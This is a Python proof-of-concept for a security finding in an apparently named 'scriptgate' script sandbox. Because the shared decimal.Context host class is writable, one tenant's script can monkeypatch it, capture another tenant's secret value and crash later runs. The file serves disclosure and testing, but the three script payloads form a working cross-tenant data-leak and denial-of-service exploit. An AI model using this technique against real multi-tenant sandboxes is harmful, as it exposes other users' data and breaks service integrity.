"""G02 (in-process HIGH; process mode: within one worker only): the host class
`decimal.Context` is writable by every script; a write is seen by every later run of every
Sandbox in the process.

Mechanism: world/modules/decimal.py does `setattr(Context, SCRIPT_CLASS_MARK, True)` on the
module-level (shared) `Context` class so that a context's settings are writable.
guards/attributes.py `_guarded_write` allows attribute writes on any class with that mark
(`isinstance(obj, type) and getattr(obj, SCRIPT_CLASS_MARK)`), so `decimal.Context.copy = f`,
`decimal.Context.create_decimal = box.append`, `decimal.Context.prec = 3` (replacing the
property) and `decimal.Context.stash = box` all succeed on the host class.
Shown (three separate Sandboxes, like three tenants):
  run A plants its own list `box` as `Context.stash` and `box.append` as
        `Context.create_decimal`, and a script function as `Context.copy`;
  run B (another Sandbox) calls `ctx.create_decimal("tenant B secret")` (value None: its
        argument went into A's list) and `decimal.localcontext()` dies inside A's `copy`
        (NameError `_tk_`: A's script code ran in B's run after A ended);
  run C (a third Sandbox) reads `decimal.Context.stash` -> ["tenant B secret"].
Expected: stand-in classes are read-only (README: host classes refuse writes; a run cannot
change what another run sees). Actual: a cross-tenant data channel and a persistent DoS /
integrity break of `decimal` for the whole process.
Run: uv run python findings2/g02_decimal_context_class_shared_writable.py [process]
(process mode: each run gets a fresh worker, so B and C see nothing; with reuse_workers the
same holds inside a worker.)
"""

from __future__ import annotations

import sys

from scriptgate import Sandbox

A = """
import decimal
box = []
def copy(self):
    return self
decimal.Context.stash = box
decimal.Context.create_decimal = box.append
decimal.Context.copy = copy
"planted"
"""
B = """
import decimal
ctx = decimal.getcontext()
got = ctx.create_decimal("tenant B secret")
try:
    with decimal.localcontext() as loc:
        pass
    local = "fine"
except Exception as e:
    local = type(e).__name__ + ": " + str(e)
[got, local]
"""
C = """
import decimal
decimal.Context.stash
"""

iso = sys.argv[1] if len(sys.argv) > 1 else "in_process"
for name, code in (("A", A), ("B", B), ("C", C)):
    r = Sandbox([], isolation=iso).run_sync(code)  # type: ignore[arg-type]
    print(f"run {name}: ok={r.ok} value={r.value!r} error={r.error}")
